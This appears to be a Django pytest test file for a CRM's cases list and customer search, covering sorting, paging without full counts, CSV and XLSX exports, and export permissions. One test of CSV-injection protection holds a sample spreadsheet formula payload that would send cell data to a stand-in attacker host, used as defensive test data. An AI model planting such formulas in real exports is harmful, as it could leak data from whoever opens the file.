"""The cases list and customer search as tables: every ?sort= value, paging without counting a long
list, and the cases export in CSV (UTF-8 with a BOM, for spreadsheet programs) and XLSX."""

import csv
import io
import re
from datetime import timedelta

import openpyxl
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from customers.choices import CaseStatus
from customers.models import Case
from cxcrm.choices import Role
from cxcrm.tables import BOM, COUNT_LIMIT
from cxcrm.tests.factories import UserFactory

from .factories import CaseFactory, CustomerFactory

pytestmark = pytest.mark.django_db

ALL = {"status": CaseStatus.values}


@pytest.fixture
def rep(client, rep_user):
    client.force_login(rep_user)
    return client


@pytest.fixture
def manager(manager_user):
    """A manager's session: the cases exports are customer-level rows (export_customer_rows)."""
    from django.test import Client

    client = Client()
    client.force_login(manager_user)
    return client


@pytest.fixture
def cases(rep_user):
    """Four cases that every sort puts in a different order."""
    now = timezone.now()
    zoe = UserFactory(username="zoe", role=Role.SUPPORT_REP)
    ana = CustomerFactory(first_name="Ana", last_name="Silva")
    bruno = CustomerFactory(first_name="Bruno", last_name="Costa")
    joao = CustomerFactory(first_name="João", last_name="Conceição")

    def case(subject, **kwargs):
        created = CaseFactory(subject=subject, **kwargs)
        Case.objects.filter(pk=created.pk).update(updated_at=kwargs["opened_at"])  # auto_now otherwise
        return created

    return [
        case(
            "Billing",
            customer=ana,
            priority="urgent",
            status=CaseStatus.OPEN,
            assignee=zoe,
            opened_at=now - timedelta(days=3),
            resolution_due_at=now + timedelta(hours=5),
        ),
        case(
            "Address",
            customer=bruno,
            priority="low",
            status=CaseStatus.PENDING,
            assignee=rep_user,
            opened_at=now - timedelta(days=1),
            resolution_due_at=now + timedelta(hours=1),
        ),
        case(
            "Courier",
            customer=joao,
            priority="high",
            status=CaseStatus.NEW,
            assignee=None,
            opened_at=now - timedelta(days=2),
            resolution_due_at=None,
        ),
        case(
            "Device",
            customer=ana,
            priority="normal",
            status=CaseStatus.CLOSED,
            assignee=rep_user,
            opened_at=now - timedelta(days=4),
            resolution_due_at=now + timedelta(hours=9),
            resolved_at=now - timedelta(days=3, hours=20),
        ),
    ]


def subjects(response) -> list[str]:
    return [c.subject for c in response.context["cases"]]


# --------------------------------------------------------------------------- sorting


@pytest.mark.parametrize(
    ("sort", "expected"),
    [
        ("subject", ["Address", "Billing", "Courier", "Device"]),
        ("-subject", ["Device", "Courier", "Billing", "Address"]),
        ("customer", ["Courier", "Address", "Billing", "Device"]),  # Conceição, Costa, Silva (by id)
        ("-customer", ["Device", "Billing", "Address", "Courier"]),
        ("status", ["Courier", "Billing", "Address", "Device"]),  # new, open, pending, closed
        ("-status", ["Device", "Address", "Billing", "Courier"]),
        ("priority", ["Address", "Device", "Courier", "Billing"]),  # low, normal, high, urgent
        ("-priority", ["Billing", "Courier", "Device", "Address"]),
        ("opened", ["Device", "Billing", "Courier", "Address"]),
        ("-opened", ["Address", "Courier", "Billing", "Device"]),
        ("updated", ["Device", "Billing", "Courier", "Address"]),
        ("-updated", ["Address", "Courier", "Billing", "Device"]),
        ("due", ["Address", "Billing", "Device", "Courier"]),  # no due time last, both ways
        ("-due", ["Device", "Billing", "Address", "Courier"]),
        ("", ["Address", "Courier", "Billing", "Device"]),  # newest first
        ("origin", ["Address", "Courier", "Billing", "Device"]),  # not a sort: newest first
        ("-opened,subject", ["Address", "Courier", "Billing", "Device"]),
    ],
)
def test_every_sort_value_orders_the_cases_list(rep, cases, sort, expected):
    response = rep.get(reverse("customers:case_list"), {**ALL, "sort": sort})
    assert subjects(response) == expected


def test_assignee_sort_puts_the_named_reps_in_order(rep, cases):
    named = [
        s for s in subjects(rep.get(reverse("customers:case_list"), {**ALL, "sort": "assignee"})) if s != "Courier"
    ]
    assert named == ["Address", "Device", "Billing"]  # rep, rep, zoe
    named = [
        s for s in subjects(rep.get(reverse("customers:case_list"), {**ALL, "sort": "-assignee"})) if s != "Courier"
    ]
    assert named == ["Billing", "Device", "Address"]


def test_column_headers_sort_both_ways_and_go_back_to_the_first_page(rep, cases):
    page = rep.get(reverse("customers:case_list"), {**ALL, "sort": "due", "page": "1"}).content.decode()
    head = page.split('data-testid="case-table"')[1].split("</thead>")[0]
    links = re.findall(r'href="\?([^"]*)"', head)
    assert any("sort=-due" in link for link in links)  # the sorted column flips
    assert any("sort=subject" in link for link in links)  # another column starts ascending
    assert all("status=new" in link and "page=" not in link for link in links)
    assert "bi-caret-up-fill" in head


def test_sorting_the_first_view_keeps_its_open_cases(rep, manager, cases):
    shown = rep.get(reverse("customers:case_list")).content.decode()
    sorted_page = rep.get(reverse("customers:case_list"), {"sort": "priority"}).content.decode()
    closed = [c.subject for c in cases if c.status not in ("new", "open", "pending")]
    assert closed, "the fixture has a closed case"
    for page in (shown, sorted_page):
        table = page.split('data-testid="case-table"')[1].split("</table>")[0]
        assert not any(f">{subject}<" in table for subject in closed)
    export = manager.get(reverse("customers:case_export"), {"sort": "priority"})
    rows = list(csv.DictReader(io.StringIO(b"".join(export.streaming_content).decode("utf-8-sig"))))
    assert {r["status"] for r in rows} <= {"new", "open", "pending"}


def test_the_export_follows_the_page_sort_and_filters(manager, cases):
    response = manager.get(reverse("customers:case_export"), {"status": ["new", "open", "pending"], "sort": "priority"})
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    assert [r["subject"] for r in rows] == ["Address", "Courier", "Billing"]


# --------------------------------------------------------------------------- exports


def test_csv_export_starts_with_a_bom_and_keeps_accents(manager, cases):
    response = manager.get(reverse("customers:case_export"), {**ALL, "sort": "subject"})
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == f'attachment; filename="cases-{timezone.localdate():%Y-%m-%d}.csv"'
    body = b"".join(response.streaming_content)
    assert body.startswith(BOM.encode("utf-8"))
    text = body.decode("utf-8-sig")
    assert "João Conceição" in text
    rows = list(csv.DictReader(io.StringIO(text)))
    courier = rows[2]
    assert list(courier) == [
        "id",
        "subject",
        "customer_id",
        "customer",
        "status",
        "status_label",
        "priority",
        "priority_label",
        "origin",
        "origin_label",
        "topic",
        "topic_label",
        "assignee",
        "opened_at",
        "first_response_due_at",
        "first_response_at",
        "resolution_due_at",
        "resolved_at",
        "sla_state",
        "sla_state_label",
        "breached",
        "reopen_count",
    ]
    assert courier["customer"] == "João Conceição"
    assert (courier["status"], courier["priority"], courier["assignee"], courier["resolution_due_at"]) == (
        "new",
        "high",
        "",
        "",
    )
    assert courier["opened_at"] == cases[2].opened_at.isoformat()
    assert (courier["status_label"], courier["priority_label"]) == ("New", "High")


def test_xlsx_export_has_the_same_rows(manager, cases):
    response = manager.get(reverse("customers:case_export_xlsx"), {**ALL, "sort": "subject"})
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Content-Disposition"].endswith('.xlsx"')
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert rows[0][:4] == ["id", "subject", "customer_id", "customer"]
    assert [r[1] for r in rows[1:]] == ["Address", "Billing", "Courier", "Device"]
    assert rows[3][3] == "João Conceição"


@pytest.mark.parametrize("export", ["customers:case_export", "customers:case_export_xlsx"])
def test_exported_text_that_looks_like_a_formula_stays_text(manager, export):
    """OWASP CSV injection: free text starting with = + - @ is written with a leading quote; phones stay."""
    customer = CustomerFactory(first_name='=HYPERLINK("http://evil.example/?"&A1,"Click")', last_name="")
    CaseFactory(customer=customer, subject="@SUM(1+1)", topic="-2+3")
    CaseFactory(customer=CustomerFactory(first_name="+5511912345678", last_name=""), subject="-12.5", topic="+4")

    response = manager.get(reverse(export), {**ALL, "sort": "subject"})

    if export.endswith("xlsx"):
        sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
        rows = [[cell.value for cell in row] for row in sheet.iter_rows()][1:]
    else:
        rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))[1:]
    cells = {(row[1], row[3], row[10]) for row in rows}  # subject, customer, topic
    assert cells == {
        ("'@SUM(1+1)", '\'=HYPERLINK("http://evil.example/?"&A1,"Click")', "'-2+3"),
        ("-12.5", "+5511912345678", "+4"),
    }


def test_the_cases_list_links_both_exports_with_its_filters(manager, cases):
    page = manager.get(reverse("customers:case_list"), {"topic": "x", "sort": "due"}).content.decode()
    assert f"{reverse('customers:case_export')}?topic=x&amp;sort=due" in page
    assert f"{reverse('customers:case_export_xlsx')}?topic=x&amp;sort=due" in page


def test_reps_read_the_cases_list_but_do_not_export_its_customer_rows(rep, cases):
    """Each row names its customer: the export takes export_customer_rows, as the drill-downs' do."""
    page = rep.get(reverse("customers:case_list"), {**ALL})
    assert page.status_code == 200 and "João Conceição" in page.content.decode()
    assert 'data-testid="csv-export"' not in page.content.decode()
    assert rep.get(reverse("customers:case_export")).status_code == 403
    assert rep.get(reverse("customers:case_export_xlsx")).status_code == 403


def test_marketer_cannot_export_cases(client, marketer_user, cases):
    client.force_login(marketer_user)
    assert client.get(reverse("customers:case_export_xlsx")).status_code == 403


# --------------------------------------------------------------------------- long lists


def _many_cases(n: int, assignee) -> None:
    customers = CustomerFactory.create_batch(25)
    now = timezone.now()
    Case.objects.bulk_create(
        [
            Case(
                customer=customers[i % 25],
                subject=f"Case {i:05d}",
                assignee=assignee if i % 3 else None,
                opened_at=now - timedelta(minutes=i),
                resolution_due_at=now + timedelta(hours=i % 40 - 20),
            )
            for i in range(n)
        ]
    )


def test_a_long_cases_list_is_never_counted_whole(rep, rep_user, django_assert_max_num_queries):
    _many_cases(COUNT_LIMIT + 150, rep_user)
    url = reverse("customers:case_list")
    with django_assert_max_num_queries(10), CaptureQueriesContext(connection) as queries:
        response = rep.get(url, {"status": ["new", "open"], "sort": "due", "page": "3"})
    assert response.status_code == 200
    assert len(response.context["cases"]) == 50
    assert f"More than {COUNT_LIMIT} cases" in response.content.decode()
    counts = [q["sql"] for q in queries.captured_queries if "COUNT(" in q["sql"].upper()]
    assert counts and all("LIMIT" in sql.upper() for sql in counts), counts
    # the pager goes both ways without a page count
    page = response.content.decode()
    assert "?status=new&amp;status=open&amp;sort=due&amp;page=2" in page
    assert "?status=new&amp;status=open&amp;sort=due&amp;page=4" in page
    assert "3 /" not in page


def test_a_page_past_the_end_of_a_long_list_shows_the_first(rep, rep_user):
    _many_cases(COUNT_LIMIT + 10, rep_user)
    response = rep.get(reverse("customers:case_list"), {"page": "999"})
    assert subjects(response)[0] == "Case 00000"


def test_a_short_list_tells_its_size_and_pages(rep, rep_user):
    _many_cases(120, rep_user)
    response = rep.get(reverse("customers:case_list"), {"page": "2"})
    text = response.content.decode()
    assert "120 cases" in text and "2 / 3" in text
    assert len(response.context["cases"]) == 50


def test_customer_search_counts_and_pages_its_results(rep):
    for i in range(30):
        CustomerFactory(first_name="Maria", last_name=f"Souza {i:02d}")
    response = rep.get(reverse("customers:customer_list"), {"q": "maria", "page": "2"})
    text = response.content.decode()
    assert "30 customers" in text and "2 / 2" in text
    assert len(response.context["customers"]) == 5


def test_a_case_table_is_a_labelled_card_per_row_on_a_phone(rep, cases):
    page = rep.get(reverse("customers:case_list"), {**ALL, "sort": "subject"}).content.decode()
    table = page.split('data-testid="case-table"')[1].split("</table>")[0]
    row = table.split('data-testid="case-row"')[1].split("</tr>")[0]
    assert 'class="table table-sm table-hover bg-body align-middle table-stack"' in page
    assert '<td class="case-subject"><a' in row  # the card's title, unlabelled
    for label in ("Customer", "Status", "Priority", "Origin", "Assignee", "Opened", "Due", "SLA"):
        assert f'data-label="{label}"' in row


def _counts(queries) -> list[str]:
    return [q["sql"] for q in queries.captured_queries if q["sql"].upper().startswith("SELECT COUNT(")]


def test_a_search_that_fits_in_one_page_is_not_counted(rep):
    for i in range(7):
        CustomerFactory(first_name="Maria", last_name=f"Souza{i}")
    CustomerFactory(first_name="João")
    with CaptureQueriesContext(connection) as queries:
        response = rep.get(reverse("customers:customer_list"), {"q": "maria"})
    assert len(response.context["customers"]) == 7 and response.context["table_total"] == 7
    assert "7 customers" in response.content.decode()
    assert not _counts(queries)  # the page's own rows tell the total: the search is not run a second time


def test_the_last_page_of_a_list_tells_the_size_without_counting(rep, rep_user):
    _many_cases(120, rep_user)
    with CaptureQueriesContext(connection) as queries:
        response = rep.get(reverse("customers:case_list"), {"page": "3"})
    assert "120 cases" in response.content.decode() and "3 / 3" in response.content.decode()
    assert len(response.context["cases"]) == 20
    assert not _counts(queries)
